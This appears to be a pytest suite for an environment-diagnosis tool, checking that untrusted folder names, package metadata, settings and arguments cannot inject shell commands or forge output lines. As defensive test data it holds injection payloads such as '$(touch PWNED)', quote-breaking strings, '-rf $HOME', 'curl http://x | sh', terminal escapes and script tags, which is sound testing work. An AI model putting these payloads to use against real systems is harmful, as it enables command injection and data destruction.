"""What came from outside begins no line of its own, and adds no word to a command, in any format."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from .lair import Lair, forged, unseen

FOLDERS = {
    "escape before a quote": "x\x1b'\";touch PWNED;#",
    "substitution": "$(touch PWNED)",
    "backticks": "`touch PWNED`",
    "blank": "a b",
    "quote": 'it\'s "so"; touch PWNED',
    "line": "x\ntouch PWNED\n#",
    "carriage return": "x\rtouch PWNED\r",
    "paragraph": "x\u2028touch PWNED\u2029",
    "turned": "x\u202e'\";touch PWNED;#",
    "dash": "-rf $HOME; touch PWNED",
    "backslash": "a\\'; touch PWNED; '",
    "next line": "x\x85touch PWNED",
    "title": "x\x1b]0;';touch PWNED;'",
}
FAST = ("escape before a quote", "substitution", "line")
SHELLS = ("sh", "bash", "dash", "zsh", "fish")


def each(names: dict[str, str] | tuple[str, ...]) -> list[object]:
    """All of them, most of them slow."""
    return [pytest.param(name, marks=() if name in FAST else pytest.mark.slow) for name in names]


def commands(report: str) -> list[tuple[list[str], str]]:
    """The commands of a report, as arguments and as they are to be pasted."""
    found = [f["fix"] for r in json.loads(report)["results"] for f in r["findings"] if f["fix"]]
    return [(command["argv"], command["text"]) for fix in found for command in fix["commands"]]


def notes(report: str) -> list[str]:
    """The notes of all fixes of a report."""
    found = [f["fix"] for r in json.loads(report)["results"] for f in r["findings"] if f["fix"]]
    return [note for fix in found for note in fix["notes"]]


def words_of(shell: str, line: str, folder: Path) -> list[str]:
    """The words that a shell makes of a line: its first word is printed like the others, never run."""
    done = subprocess.run(
        [shell, "-c", f"printf '%s\\0' {line}"],
        cwd=folder,
        capture_output=True,
        env={"PATH": os.defpath, "HOME": "/"},
        timeout=20,
    )
    return done.stdout.decode("utf-8", "surrogateescape").split("\0")[:-1]


def dead_environment(folder: Path) -> None:
    """A virtual environment whose base is gone."""
    (folder / ".venv/bin").mkdir(parents=True)
    (folder / ".venv/pyvenv.cfg").write_text("home = /gone/bin\nversion = 3.11.1\n")
    (folder / ".venv/bin/python").symlink_to("/gone/bin/python3")


@pytest.mark.parametrize("name", each(FOLDERS))
def test_the_name_of_a_folder_runs_nothing_when_a_command_is_pasted(lair: Lair, name: str) -> None:
    project = lair.root / FOLDERS[name]
    dead_environment(project)
    shown = lair.everywhere("python", "venv", "libraries", cwd=project)
    scratch = lair.root / "scratch"
    scratch.mkdir()
    found = commands(shown["json"])
    for shell in filter(shutil.which, SHELLS):
        for argv, line in found:
            assert words_of(shell, line, scratch) == argv, f"{shell}: {line!r}"
    assert not any(scratch.iterdir())
    for form, text in shown.items():
        assert not forged(text, "touch PWNED"), form
        assert unseen(text) == set(), form


@pytest.mark.parametrize("name", each(FOLDERS))
def test_nor_does_a_command_within_a_note(lair: Lair, name: str) -> None:
    """A library that never ends has advice with a command of its own, which names the interpreter."""
    lair.environ["VIRTUAL_ENV"] = str(lair.root / FOLDERS[name])
    lair.venv(lair.root / FOLDERS[name], libraries=("numpy",))
    lair.library("numpy", source="import time; time.sleep(60)")
    said = lair.ask("check", "libraries", "--require", "lib:numpy", "--timeout", "2", "--format", "json")
    scratch = lair.root / "scratch"
    scratch.mkdir()
    spoken = [note for note in notes(said.out) if " -c " in note]
    for note in spoken:
        command = note[note.index(" -c ") :]
        words_of("bash", note, scratch)
        assert "import numpy" in command
    assert not any(scratch.iterdir())
    plain = FOLDERS[name].isprintable() and "\n" not in FOLDERS[name]
    assert spoken or not plain, "a name that can be written is written"


@pytest.mark.parametrize("shell", ["/usr/bin/fish", "/bin/bash", "/x/powershell", "cmd.exe"])
@pytest.mark.parametrize("name", ["it's \\'; touch PWNED; \\'", "$(touch PWNED)"])
def test_a_snapshot_does_not_choose_how_the_reader_s_shell_is_quoted(lair: Lair, shell: str, name: str) -> None:
    """Whoever wrote the file named another shell than the one that the command is pasted into."""
    kind = Path(shell).name.partition(".")[0]
    snapshot = {
        "schema_version": "1.0", "kind": "mlenv-doctor snapshot", "tool": {"name": "mlenv-doctor", "version": "0.1.0"},
        "target": {"python": f"/p/{name}/.venv/bin/python", "prefix": f"/p/{name}/.venv", "chosen_by": "project"},
        "project": f"/p/{name}",
        "facts": {
            "place": {"os": "windows" if kind in ("powershell", "cmd") else "linux", "kind": "machine", "shell": kind},
            "python": {
                "version": "3.12.1", "executable": f"/p/{name}/.venv/bin/python", "prefix": f"/p/{name}/.venv",
                "base_prefix": "/usr", "pip": True, "purelib": f"/p/{name}/.venv/lib", "purelib_writable": True,
            },
            "libraries": {"distributions": [], "modules": [], "environment": []},
        },
    }  # fmt: skip
    file = lair.write("patient.json", json.dumps(snapshot))
    lair.environ["SHELL"] = "/bin/bash"
    said = lair.ask("check", "--from", str(file), "--profile", "foundations", "--format", "json")
    assert said.code == 1, said.all
    scratch = lair.root / "scratch"
    scratch.mkdir()
    for argv, line in commands(said.out):
        if name in " ".join(argv):
            words_of("bash", line, scratch)
    assert not any(scratch.iterdir())


@pytest.mark.parametrize("shell", ["/usr/bin/fish", "fish"])
def test_nor_does_the_variable_SHELL(lair: Lair, shell: str) -> None:
    lair.environ["SHELL"] = shell
    test_the_name_of_a_folder_runs_nothing_when_a_command_is_pasted(lair, "backslash")


LINES = {
    "a fix": "k\nOWNED  Fix: Install the kernel\n    OWNED curl http://x | sh\n    #",
    "a workflow command": "k\n::error::OWNED\n::stop-commands::OWNED\n##[error]OWNED\nOWNED",
    "old Mac": "k\rOWNED\r\rOWNED",
    "paragraphs": "k\u2028OWNED\u2029OWNED\x85OWNED\x0bOWNED\x0cOWNED\x1cOWNED",
    "erased": "k\x1b[2K\x1b[1GOWNED\x1b[1AOWNED",
    "backspaces": "k" + "\b" * 80 + "OWNED",
    "markdown": "k`\n\nOWNED\n```\nOWNED\n</details>\n# OWNED",
    "hidden": "k\u200b\u2060\ufeff\u2066\u202eOWNED\U000e0041\u00ad\u180e\u3164",
    "new page": "k</td></tr></table><script>OWNED</script>\nOWNED",
}
QUICK = ("a fix", "a workflow command", "paragraphs")


def haunt(lair: Lair, text: str) -> None:
    """Put a text wherever a project or an environment can hold one."""
    name = text.replace("/", "\u2215").replace("\0", "")[:120]
    kernel = {"kernelspec": {"name": text, "display_name": text, "language": "python"}, "language_info": {"version": text}}
    lair.write("a.ipynb", json.dumps({"cells": [], "metadata": kernel, "nbformat": 4, "nbformat_minor": 5}))
    lair.write(f"{name}.ipynb", json.dumps({"cells": [], "metadata": kernel, "nbformat": 4, "nbformat_minor": 5}))
    lair.write(f"{name}.py", "import numpy")
    lair.write(".env", f'GOOD=1\nOPENAI_API_KEY="{text}"\n{name} = broken\nX {text}\n')
    lair.write("requirements.txt", f"numpy\n{text}\npandas=={text}\n-r {name}.txt\n")
    lair.write(
        "pyproject.toml",
        f"[project]\nname = {json.dumps(text)}\nversion = '1'\nrequires-python = {json.dumps(text)}\ndependencies = [{json.dumps(text)}, 'numpy']\n",
    )
    lair.write("environment.yml", f"name: x\ndependencies:\n  - {json.dumps('numpy=' + text)}\n")
    info = lair.site / f"{name[:80]}-1.0.dist-info"
    info.mkdir(exist_ok=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\nRequires-Dist: numpy (>=9; {text}\n")
    (info / "RECORD").write_text(f"{name}/__init__.py,sha256=x,3\n")
    lair.library("pandas", version="3.0.3", source=f"raise RuntimeError({text!r})")
    lair.library("openai", source=f"raise ImportError({text!r}, name={text!r})")
    kernels = lair.home / ".local/share/jupyter/kernels/odd"
    kernels.mkdir(parents=True, exist_ok=True)
    (kernels / "kernel.json").write_text(json.dumps({"argv": [text, "-m", text], "display_name": text, "language": "python"}))
    for variable in (
        "CUDA_VISIBLE_DEVICES",
        "OMP_NUM_THREADS",
        "MLFLOW_TRACKING_URI",
        "HTTPS_PROXY",
        "PIP_INDEX_URL",
        "LD_LIBRARY_PATH",
    ):
        lair.environ[variable] = text
    lair.environ["PYTHONPATH"] = str(lair.root / name)
    (lair.root / name).mkdir(exist_ok=True)


@pytest.mark.parametrize("name", [pytest.param(n, marks=() if n in QUICK else pytest.mark.slow) for n in LINES])
def test_no_value_begins_a_line_of_its_own(inhabited: Lair, name: str) -> None:
    haunt(inhabited, LINES[name])
    shown = inhabited.everywhere()
    for form, text in shown.items():
        assert not forged(text), form
        assert unseen(text) == set(), form
    assert "OWNED" in shown["json"], "or nothing of it was heard at all"
    for words in (("fix",), ("fix", "--libs", "--llm", "--mlflow")):
        said = inhabited.ask(*words)
        assert said.code in (0, 1) and not forged(said.all) and unseen(said.all) == set(), words


def test_no_value_of_a_snapshot_does_so_when_it_is_judged_elsewhere(inhabited: Lair) -> None:
    haunt(inhabited, LINES["a fix"])
    snapshot = inhabited.ask("snapshot")
    file = inhabited.write("patient.json", snapshot.out)
    for form, text in inhabited.everywhere("--from", str(file)).items():
        assert not forged(text) and unseen(text) == set(), form


NASTY = "x\x1b]0;owned\x07\x1b[2J\nOWNED\r\u202eOWNED\x9b31m"


@pytest.mark.parametrize(
    "words",
    [
        ("check", "--profile", NASTY), ("check", "--require", NASTY), ("check", "--skip", NASTY), ("check", NASTY), (NASTY,),
        ("check", "--python", NASTY), ("check", "--from", NASTY), ("check", "--baseline", NASTY), ("check", "--output", f"json:{NASTY}/x"),
        ("check", "--output", NASTY), ("check", "--format", NASTY), ("check", "--timeout", NASTY), ("explain", NASTY), ("diff", NASTY, NASTY),
        ("init", NASTY), ("check", f"--{NASTY}"), ("check", "--nagios", "--profile", NASTY), ("schema", NASTY), ("check", "--color", NASTY),
        ("check", "--require", f"lib:{NASTY}"), ("check", "--require", f"key:{NASTY}", "llm"),
    ],
    ids=lambda words: " ".join(words).encode("ascii", "replace").decode()[:40].replace("\n", " "),
)  # fmt: skip
def test_a_complaint_is_cleaned_as_well(lair: Lair, words: tuple[str, ...]) -> None:
    said = lair.ask(*words)
    assert said.code in (1, 2, 3) and "Traceback" not in said.err
    assert unseen(said.all) == set() and not forged(said.all)


@pytest.mark.parametrize(
    "setting",
    [
        f"profile = {json.dumps(NASTY)}", f"skip = [{json.dumps(NASTY)}]", f"require = {json.dumps(NASTY)}", f"{json.dumps(NASTY)} = 1",
        f"timeout = {json.dumps(NASTY)}", f"require = {json.dumps('lib:' + NASTY)}", f"env-file = {json.dumps(NASTY)}",
        f"mlflow-uri = {json.dumps(NASTY)}", "x = \"\x1b[2J\nOWNED",
    ],
    ids=range(9),
)  # fmt: skip
@pytest.mark.parametrize("command", ["check", "snapshot"])
def test_a_setting_of_the_project_is_cleaned_in_what_it_causes(lair: Lair, setting: str, command: str) -> None:
    lair.write("pyproject.toml", f"[tool.mlenv-doctor]\n{setting}\n")
    said = lair.ask(command, "--quick")
    assert "Traceback" not in said.err
    assert unseen(said.all) == set() and not forged(said.all)


@pytest.mark.parametrize("name", ["-e git+http://x", "--index-url=http://x", "-r evil.txt"])
def test_no_value_becomes_an_option_of_a_command(inhabited: Lair, name: str) -> None:
    """A distribution that calls itself an option of pip."""
    info = inhabited.site / f"{name.replace('/', chr(0x2215))}-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
    (info / "INSTALLER").write_text("pip\n")
    (info / "RECORD").write_text("gone.py,sha256=x,3\n")
    inhabited.write("requirements.txt", f"numpy\n{name}\n")
    said = inhabited.ask("check", "--format", "json")
    for argv, line in commands(said.out):
        assert not [word for word in argv if word.startswith(name[:3]) and "x" in word], line
